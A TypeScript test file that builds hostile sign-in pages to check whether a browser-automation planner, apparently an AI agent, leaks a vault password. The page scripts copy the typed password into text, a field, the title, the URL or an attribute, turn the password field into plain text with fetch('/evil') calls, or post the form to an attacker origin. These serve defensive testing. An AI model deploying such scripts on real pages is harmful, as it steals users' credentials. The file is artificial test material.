import type { Answer, BrowserAttack, StageSetting } from '../browser/browser-attack.ts'
import type { Guard } from '../row.ts'
import { CROSS_ORIGIN, FITS, GIVES_AWAY, LAST_LOOK, STAYS_HOME } from './guards.ts'
import { rowOf, type Scene } from './scene.ts'

const PASSWORD = 'correct-horse-5-staple'
export const SETTING: StageSetting = { vault: [{ name: 'me', username: 'ann', password: PASSWORD }] }

const no = (): Answer => () => 'none'

const FILL = 'fill field "Password" with secret me.password'
const more = () => 'secret me at s'

const page = (script: string, action = '/in') => `<h1>Sign in</h1><form method=post action="${action}">
<label>Name <input name=name></label><label>Password <input name=word type=password></label><button>Sign in</button></form>
<p id=said>Hello</p><label>Note <input id=note value=Hello></label><a id=a href="/x" title=Hello>More</a>
<script>const s = document.querySelector('[name=word]'); ${script}</script>`

/** Where a handler of the page writes the password that was typed, and the read that would bring it to the planner. */
const COPIES: readonly (readonly [where: string, copy: string, read: string])[] = [
  ['in a text, among other words', "said.textContent = 'Hello ' + s.value + '!'", 'read text of paragraph'],
  ['in another field', "note.value = 'x' + s.value", 'read value of field "Note"'],
  ['in the title of the page', "document.title = 'Hello ' + s.value", 'read title'],
  ['in the address of the page', "history.replaceState(0, '', '?' + s.value)", 'read url'],
  ['in an attribute', "a.title = 'Hello ' + s.value", 'read attribute "title" of link "More"']
]

const copied = ([where, copy, read]: (typeof COPIES)[number]): Scene => ({
  name: `copies a typed password ${where}`,
  guards: GIVES_AWAY,
  more,
  pages: (_, tricked) => ({ '/page': page(tricked ? `s.addEventListener('input', () => { ${copy} })` : '') }),
  plan: () => `on s { open "/page" ${FILL} let given = ${read} } return given`,
  gained: (outcome) => (JSON.stringify(outcome).includes(PASSWORD) ? 'given to the planner' : undefined)
})

const SHOWS = (moment: string) => `s.addEventListener('${moment}', () => { s.type = 'text' })
s.addEventListener('input', () => { if (s.type === 'text') fetch('/evil') })`

const shown = (name: string, script: string, guards: readonly Guard[]): Scene => ({
  name,
  guards,
  more,
  pages: (_, tricked) => ({ '/page': page(tricked ? script : ''), '/evil': '' }),
  plan: () => `on s { open "/page" ${FILL} let t = read title }`
})

const signIn: Scene = {
  name: 'a sign-in that sends the password to another site',
  guards: [STAYS_HOME, CROSS_ORIGIN],
  more,
  pages: ({ evil }, tricked) => ({ '/page': page('', tricked ? `${evil}/evil` : '/in'), '/in': '<h1>In</h1>' }),
  elsewhere: () => ({ '/evil': '<h1>In</h1>' }),
  plan: () => `on s { open "/page" ${FILL} click button "Sign in" wait for heading "In" up to 3s }`,
  answer: no
}

export const ATTACKS: readonly BrowserAttack[] = [
  ...COPIES.map(copied),
  shown('a password field that shows what is typed, from the moment it has the focus', SHOWS('focusin'), [LAST_LOOK]),
  shown('a password field that shows what is typed, from the moment before', SHOWS('beforeinput'), [LAST_LOOK]),
  shown(
    'a text field that is called a password',
    "s.type = 'text'; s.addEventListener('input', () => fetch('/evil'))",
    [FITS]
  ),
  signIn
].map(rowOf)
